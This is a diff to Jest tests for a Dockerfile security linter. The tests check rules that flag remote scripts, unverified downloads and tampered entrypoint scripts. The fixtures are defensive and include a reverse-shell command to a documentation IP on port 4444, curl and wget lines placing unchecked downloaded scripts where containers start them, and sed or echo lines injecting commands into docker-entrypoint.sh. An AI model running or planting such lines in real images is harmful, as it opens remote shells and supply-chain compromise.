@@ -1,5 +1,6 @@
 import { describe, expect, it } from '@jest/globals';
 import passwordSet from '../../../src/rules/privileges/users/password-set-in-image.ts';
+import addRemote from '../../../src/rules/supply-chain/downloads/add-remote-no-checksum.ts';
 import downloadUnverified from '../../../src/rules/supply-chain/downloads/download-unverified.ts';
 import obfuscatedExec from '../../../src/rules/supply-chain/downloads/obfuscated-exec.ts';
 import rule from '../../../src/rules/supply-chain/downloads/remote-script-exec.ts';
@@ -94,6 +95,101 @@ describe('files that something starts', () => {
     expect(found(obfuscatedExec, `COPY <<E /etc/my_init.d/a\n${hidden}\nE`)).toHaveLength(1);
     expect(found(obfuscatedExec, `CMD ${hidden}`)).toHaveLength(1);
     expect(found(obfuscatedExec, `CMD ["bash", "-c", "bash -i >& /dev/tcp/203.0.113.7/4444 0>&1"]`)).toHaveLength(1);
+  });
+});
+
+describe('the entry point of the image below', () => {
+  const at = (base: string, text: string, files: Readonly<Record<string, string>>, from = rule) =>
+    checkText(from, 'Dockerfile', `FROM ${base}\n${text}\n`, {}, {}, undefined, files).findings.map(
+      ({ span }) => `${span.file.path}:${span.file.text.slice(0, span.start).split('\n').length}`,
+    );
+  const files = { 'a.sh': SCRIPT, 'docker-entrypoint.sh': SCRIPT, 'd/docker-entrypoint.sh': SCRIPT };
+
+  it.each([
+    ['postgres:17', 'COPY a.sh /usr/local/bin/docker-entrypoint.sh', 'a.sh:2'],
+    ['redis:8', 'COPY docker-entrypoint.sh /usr/local/bin/', 'docker-entrypoint.sh:2'],
+    ['node:22', 'COPY d /usr/local/bin', 'd/docker-entrypoint.sh:2'],
+    ['nginx:1.29', 'COPY a.sh /docker-entrypoint.sh', 'a.sh:2'],
+    ['php:8.4', 'COPY --chmod=755 a.sh /usr/local/bin/docker-php-entrypoint', 'a.sh:2'],
+    ['registry:3', 'COPY a.sh /entrypoint.sh', 'a.sh:2'],
+    ['postgres:17', `RUN sed -i '2i ${PIPE}' /usr/local/bin/docker-entrypoint.sh`, 'Dockerfile:2'],
+    ['postgres:17', `RUN sed -i -e '/^set/a\\${PIPE}' /usr/local/bin/docker-entrypoint.sh`, 'Dockerfile:2'],
+    ['postgres:17', `RUN echo '${PIPE}' >> /usr/local/bin/docker-entrypoint.sh`, 'Dockerfile:2'],
+  ])('may be replaced: %s %s', (base, text, place) => expect(at(base, text, files)).toEqual([place]));
+
+  it.each([
+    ['postgres:17', 'COPY a.sh /usr/local/bin/docker-entrypoint.sh\nENTRYPOINT ["/app"]', files],
+    ['postgres:17', 'COPY a.sh /usr/local/share/docker-entrypoint.sh', files],
+    ['postgres:17', 'COPY a.sh /usr/local/bin/docker-entrypoint.sh.md', files],
+    ['postgres:17', 'COPY a.sh /usr/local/bin/docker-entrypoint.sh', { 'a.sh': '#!/bin/sh\nexec curl --version\n' }],
+    [
+      'debian:12',
+      'COPY docker-entrypoint.sh /usr/local/bin/\nENTRYPOINT ["docker-entrypoint.sh"]\nCMD ["curl"]',
+      { 'docker-entrypoint.sh': '#!/bin/sh\nset -e\ncurl -fsS http://127.0.0.1/ || true\nexec "$@"\n' },
+    ],
+    ['postgres:17', `RUN sed -i '2i echo "# ${PIPE}"' /usr/local/bin/docker-entrypoint.sh`, {}],
+    ['postgres:17', `RUN sed '2i ${PIPE}' /usr/local/bin/docker-entrypoint.sh`, {}],
+    ['postgres:17', `RUN sed -i '2i ${PIPE}' /usr/share/doc/entrypoint.txt`, {}],
+  ])('may be replaced without harm, or is not replaced: %s %s', (base, text, given) =>
+    expect(at(base, text, given)).toEqual([]),
+  );
+
+  it.each([
+    ['postgres:17', 'RUN curl -o /docker-entrypoint-initdb.d/a.sh https://get.example.com/a.sh'],
+    ['postgres:17', 'RUN curl -o /usr/local/bin/docker-entrypoint.sh https://get.example.com/a.sh'],
+    ['postgres:17', 'RUN wget -P /docker-entrypoint-initdb.d https://get.example.com/a.sh'],
+  ])('and files that it starts may be downloads: %s %s', (base, text) => {
+    expect(at(base, text, {}, downloadUnverified)).toEqual(['Dockerfile:2']);
+  });
+
+  it('is named in the message about a download, which is as severe as a script in a pipe', () => {
+    const text = 'RUN curl -o /docker-entrypoint-initdb.d/a.sh https://get.example.com/a.sh';
+    expect(found(downloadUnverified, text)).toMatchObject([{ severity: 'high' }]);
+    expect(messagesOf(downloadUnverified, 'Dockerfile', `FROM postgres:17\n${text}\n`)).toEqual([
+      'This Dockerfile downloads "https://get.example.com/a.sh" and puts it where the image starts it, and nothing checks what it is.',
+    ]);
+    expect(found(addRemote, 'ADD https://get.example.com/a.sh /docker-entrypoint-initdb.d/')).toMatchObject([
+      { severity: 'high' },
+    ]);
+  });
+
+  it.each([
+    'RUN curl -o /docker-entrypoint-initdb.d/a.sql https://get.example.com/a.sql',
+    'RUN curl -o /usr/local/bin/docker-entrypoint.sh https://get.example.com/a.sh\nENTRYPOINT ["/app"]',
+    'RUN curl -o /srv/docker-entrypoint.sh https://get.example.com/a.sh',
+    `RUN curl -o /docker-entrypoint-initdb.d/a.sh https://get.example.com/a.sh && echo '${'4d'.repeat(32)}  /docker-entrypoint-initdb.d/a.sh' | sha256sum -c -`,
+  ])('and downloads elsewhere, or that are checked, are left alone: %s', (text) => {
+    expect(found(downloadUnverified, text)).toEqual([]);
+  });
+});
+
+describe('a script from a web address that is a program', () => {
+  const weights = (text: string) => found(addRemote, text).map(({ severity }) => severity);
+  const ADD = 'ADD --chmod=755 https://get.example.com/a.sh /usr/local/bin/st.sh\n';
+
+  it.each([
+    'ENTRYPOINT ["st.sh"]',
+    'ENTRYPOINT st.sh --now',
+    'CMD ["st.sh"]',
+    'RUN st.sh',
+    'RUN set -e; exec st.sh',
+    'ENTRYPOINT ["/usr/local/bin/st.sh"]',
+  ])('is run by its name: %s', (text) => expect(weights(ADD + text)).toEqual(['high']));
+
+  it.each(['ENTRYPOINT ["other.sh"]', 'RUN ls', 'RUN ./st.sh', 'RUN echo st.sh', 'ENTRYPOINT ["/opt/st.sh"]'])(
+    'is not run by another name: %s',
+    (text) => expect(weights(ADD + text)).toEqual(['medium']),
+  );
+
+  it('is not a program in another folder, or known by a checksum', () => {
+    expect(weights('ADD https://get.example.com/a.sh /opt/st.sh\nRUN st.sh')).toEqual(['medium']);
+    expect(weights(`${ADD.replace('755', `755 --checksum=sha256:${'4d'.repeat(32)}`)}RUN st.sh`)).toEqual([]);
+  });
+
+  it('may be fetched by a command', () => {
+    const fetched = 'RUN curl -o /usr/local/bin/st.sh https://get.example.com/a.sh && chmod +x /usr/local/bin/st.sh';
+    expect(found(downloadUnverified, `${fetched} && st.sh`)).toMatchObject([{ severity: 'high' }]);
+    expect(found(downloadUnverified, `${fetched} && echo st.sh`)).toMatchObject([{ severity: 'medium' }]);
   });
 });
 
